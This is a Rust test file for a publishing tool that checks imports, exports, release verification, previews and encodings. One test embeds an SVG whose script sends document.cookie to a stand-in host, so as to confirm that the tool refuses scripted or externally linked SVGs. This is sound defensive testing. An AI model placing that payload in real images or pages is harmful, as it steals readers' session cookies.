//! The smaller findings of the second hardening round (issue 21, item 6), each where it arises:
//! Word import through a linked images/ folder or failing half-way, SVGs the editions must not
//! carry, phone images that cut text off, `verify` of a published set that is not as released,
//! `catalog` with one bad issue, `preview` failing at a later page, UTF-16 articles, image paths
//! written as URLs, and an issue.toml that is not a file.

use std::io::Write;
use std::path::Path;

use crate::common::*;

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A .docx holding one paragraph and one 4 × 2 PNG picture.
#[cfg(unix)]
fn docx_with_picture(path: &Path) {
    let document = r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p><w:r><w:t>正文。</w:t></w:r></w:p><w:p><w:r><w:drawing><a:blip r:embed="rIdImg"/></w:drawing></w:r></w:p></w:body></w:document>"#;
    let rels = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>"#;
    let mut png = Vec::new();
    image::RgbImage::new(4, 2)
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let opts = zip::write::SimpleFileOptions::default();
    for (name, bytes) in [
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", rels.as_bytes()),
        ("word/media/image1.png", &png),
    ] {
        zip.start_file(name, opts).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

#[cfg(unix)]
#[test]
fn word_import_never_writes_through_a_linked_images_folder_and_fails_whole() {
    let tmp = tempfile::tempdir().unwrap();
    let docx = tmp.path().join("稿.docx");
    docx_with_picture(&docx);
    let import = |dir: &Path| {
        kanwu(
            &root(),
            &["import", docx.to_str().unwrap(), dir.to_str().unwrap()],
        )
    };

    // images/ a link to a folder elsewhere: refused, nothing written there or here.
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let issue = tmp.path().join("issue");
    std::fs::create_dir(&issue).unwrap();
    symlink(&elsewhere, &issue.join("images"));
    let out = import(&issue);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("images is a symbolic link"), "{err}");
    assert!(err.contains("nothing was imported"), "{err}");
    assert!(!issue.join("稿.md").exists());
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);

    // images a file: the picture cannot be written, and the article is not left behind.
    let issue = tmp.path().join("issue2");
    std::fs::create_dir(&issue).unwrap();
    std::fs::write(issue.join("images"), "a file").unwrap();
    let out = import(&issue);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let names: Vec<_> = std::fs::read_dir(&issue)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["images"], "left behind: {names:?}");
}

/// The sample issue in a project of its own with `x.md` (front matter, then `body`) added to
/// its news section.
fn sample_with(body: &str) -> TempIssue {
    let t = TempProject::new().link_layout().link_fonts().with_sample();
    t.write("x.md", format!("+++\ntitle = \"加稿\"\n+++\n\n{body}"));
    let toml = std::fs::read_to_string(t.path("issue.toml")).unwrap();
    t.write(
        "issue.toml",
        toml.replace(
            "articles = [\"ai-patents.md\"]",
            "articles = [\"ai-patents.md\", \"x.md\"]",
        ),
    );
    t
}

#[test]
fn an_svg_with_a_script_or_a_web_link_is_refused_by_every_edition() {
    let t = sample_with("图如下。\n\n![示意](images/x.svg)\n");
    t.write(
        "images/x.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><script>fetch('http://example.com/?'+document.cookie)</script><a xlink:href="http://example.com/"><rect width="20" height="20"/></a></svg>"#,
    );
    for to in ["html", "docx"] {
        let out = t.run_on_issue("export", &["--to", to]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{to}: {err}");
        assert!(
            err.contains(
                "image `images/x.svg` cannot be used: the SVG carries a script (<script>)"
            ),
            "{to}: {err}"
        );
        assert!(err.contains("x.md:7"), "{to}: {err}");
        assert!(!t.root().join("out").exists(), "{to} wrote out/");
    }
    // A link alone (no script) is refused too, by the PDF build as by the editions.
    t.write(
        "images/x.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="http://example.com/x.png" width="20" height="20"/></svg>"#,
    );
    for args in [vec!["export", "--to", "html"], vec!["build"]] {
        let out = t.run_on_issue(args[0], &args[1..]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(
            err.contains("the SVG refers to something outside it (http://example.com/x.png)"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn a_phone_image_that_cuts_off_a_long_unbreakable_run_says_so() {
    // 200 Cyrillic letters: no break opportunity anywhere, far wider than a phone.
    let run = "ж".repeat(200);
    let t = sample_with(&format!("长串：{run}。\n"));
    let out = t.run_on_issue("export", &["--to", "images"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("the phone image 04-x.png cuts off text: 「жжжж"),
        "{err}"
    );
    assert!(err.contains("in x.md, put spaces into it"), "{err}");
    // The sample's own images cut nothing: one warning only.
    assert_eq!(err.matches("cuts off text").count(), 1, "{err}");
}

#[test]
fn verify_fails_when_a_published_file_is_gone_a_link_or_not_released() {
    // A small issue of three short articles: each verify makes every PDF and image again.
    let t = TempProject::new()
        .link_layout()
        .own_fonts()
        .publication(&fixtures().join("archive/issues/publication.toml"))
        .with_issue(&fixtures().join("archive/issues/2021-02"), "2021-02");
    let run = |args: &[&str]| t.project.run(args);
    let out = run(&["export", "issues/2021-02", "--to", "images"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run(&["release", "issues/2021-02"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let verify = || {
        let out = run(&["verify", "issues/2021-02"]);
        (out.status.code(), stdout(&out), stderr(&out))
    };
    let (code, said, err) = verify();
    assert_eq!(code, Some(0), "{said}{err}");
    let out = t.project.join("out");
    let pdf = out.join("2021-02.pdf");

    // A phone image added that the release did not make.
    let extra = out.join("2021-02.phone/99-extra.png");
    std::fs::copy(out.join("2021-02.phone/01-cover.png"), &extra).unwrap();
    let (code, said, err) = verify();
    assert_eq!(code, Some(1), "{said}{err}");
    assert!(
        err.contains("the published out/2021-02.phone/99-extra.png is not a file of the release"),
        "{err}"
    );
    assert!(!said.contains("as recorded"), "{said}");
    std::fs::remove_file(&extra).unwrap();

    // The screen PDF a link to a copy of itself (where there are links).
    #[cfg(unix)]
    {
        let copy = t.project.join("copy.pdf");
        std::fs::rename(&pdf, &copy).unwrap();
        symlink(&copy, &pdf);
        let (code, said, err) = verify();
        assert_eq!(code, Some(1), "{said}{err}");
        assert!(
            err.contains("the published out/2021-02.pdf is a symbolic link"),
            "{err}"
        );
    }

    // The screen PDF gone.
    std::fs::remove_file(&pdf).unwrap();
    let (code, said, err) = verify();
    assert_eq!(code, Some(1), "{said}{err}");
    assert!(
        err.contains("the published out/2021-02.pdf is missing"),
        "{err}"
    );

    // The whole of out/ gone.
    std::fs::remove_dir_all(&out).unwrap();
    let (code, said, err) = verify();
    assert_eq!(code, Some(1), "{said}{err}");
    assert!(
        err.contains("the published out/2021-02.archive.pdf is missing"),
        "{err}"
    );
    assert!(!said.contains("as recorded"), "{said}");
}

#[test]
fn catalog_with_one_failing_issue_writes_the_others_and_names_it() {
    let t = TempProject::new()
        .link_layout()
        .link_fonts()
        .issues(&fixtures().join("archive/issues"));
    let issues = t.join("issues");
    let mut names: Vec<String> = std::fs::read_dir(&issues)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| issues.join(n).join("issue.toml").is_file())
        .collect();
    names.sort();
    let bad = names[1].clone();
    let manifest = issues.join(&bad).join("issue.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("[issue]", "[issue]\nbogus = 1")).unwrap();
    let out = t.run(&["catalog"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            "the catalogue was written without one issue that failed to build ({bad})"
        )),
        "{err}"
    );
    let catalog: serde_json::Value =
        serde_json::from_slice(&std::fs::read(t.join("out/catalog.json")).unwrap()).unwrap();
    let listed: Vec<&str> = catalog["issues"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap())
        .collect();
    let others: Vec<&str> = names
        .iter()
        .filter(|n| **n != bad)
        .map(String::as_str)
        .collect();
    assert_eq!(listed, others);
    assert!(t.join("out/catalog.pdf").is_file());
}

#[test]
fn preview_that_fails_at_a_later_page_leaves_no_earlier_page() {
    let t = TempProject::new().link_layout().link_fonts().with_sample();
    let dir = t.project.join("out/2021-01");
    // Page 2 cannot be written (a folder in its place), as on a disk that fills up there.
    std::fs::create_dir_all(dir.join("page-2.png")).unwrap();
    let out = t.run_on_issue("preview", &["--pages", "1-3"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["page-2.png"], "left: {left:?}");
}

/// A disk that fills up at page 3: each file may be no larger than pages 1 and 2 (RLIMIT_FSIZE,
/// its signal ignored, so a write past it fails with "file too large" as on a full disk).
#[cfg(unix)]
#[test]
fn preview_on_a_disk_that_fills_up_leaves_no_page() {
    use std::os::unix::process::CommandExt;
    let t = TempProject::new().link_layout().link_fonts().with_sample();
    let out = t.run_on_issue("preview", &["--pages", "1-4"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let dir = t.project.join("out/2021-01");
    let size = |n: usize| {
        std::fs::metadata(dir.join(format!("page-{n}.png")))
            .unwrap()
            .len()
    };
    let (first, largest) = (size(1).max(size(2)), (3..=4).map(size).max().unwrap());
    assert!(
        largest > first + 1000,
        "pages 3-4 ({largest}) not larger than 1-2 ({first})"
    );
    let limit = (first + largest) / 2;
    std::fs::remove_dir_all(&dir).unwrap();
    let mut c = kanwu_command();
    c.current_dir(t.root())
        .args(["preview", t.issue.to_str().unwrap(), "--pages", "1-4"]);
    unsafe {
        c.pre_exec(move || {
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            let rl = libc::rlimit {
                rlim_cur: limit,
                rlim_max: limit,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &rl) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = c.output().unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("page-"), "{err}");
    let left: Vec<_> = std::fs::read_dir(&dir)
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(left.is_empty(), "left: {left:?}");
}

#[test]
fn a_utf16_article_builds_and_one_without_a_byte_order_mark_is_named_as_utf16() {
    let t = sample_with("");
    let text = "+++\ntitle = \"十六位编码\"\n+++\n\n记事本以“Unicode”保存的稿件也能排版。\n";
    let utf16 = |bom: bool| {
        let mut bytes = if bom { vec![0xFF, 0xFE] } else { Vec::new() };
        for u in text.encode_utf16() {
            bytes.extend(u.to_le_bytes());
        }
        bytes
    };
    t.write("x.md", utf16(true));
    let pdf = t.root().join("x.pdf");
    let out = t.run_on_issue("build", &["-o", pdf.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let flat = squash(&pdf_text_lopdf(&pdf).1);
    assert!(
        flat.contains("记事本以“Unicode”保存的稿件也能排版。"),
        "{flat}"
    );

    t.write("x.md", utf16(false));
    let out = t.run_on_issue("build", &["-o", pdf.to_str().unwrap()]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("x.md is UTF-16 text kanwu cannot read"),
        "{err}"
    );
    assert!(!err.contains("GB18030"), "{err}");
}

#[test]
fn an_image_path_written_as_a_url_is_decoded() {
    let t = sample_with("图如下。\n\n![示意](images/my%20photo%E5%9B%BE.png)\n");
    std::fs::create_dir_all(t.path("images")).unwrap();
    image::RgbImage::from_pixel(60, 40, image::Rgb([200, 30, 30]))
        .save(t.path("images/my photo图.png"))
        .unwrap();
    let pdf = t.root().join("x.pdf");
    let out = t.run_on_issue("build", &["-o", pdf.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[cfg(unix)]
#[test]
fn an_issue_toml_that_is_a_fifo_is_named_as_such() {
    let t = TempProject::new().link_layout().link_fonts().with_sample();
    let manifest = t.path("issue.toml");
    std::fs::remove_file(&manifest).unwrap();
    let c = std::ffi::CString::new(manifest.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    for command in ["build", "check"] {
        let out = t.run_on_issue(command, &[]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{command}: {err}");
        assert!(
            err.contains("issue.toml is not a regular file (a named pipe, socket or device)"),
            "{command}: {err}"
        );
    }
}
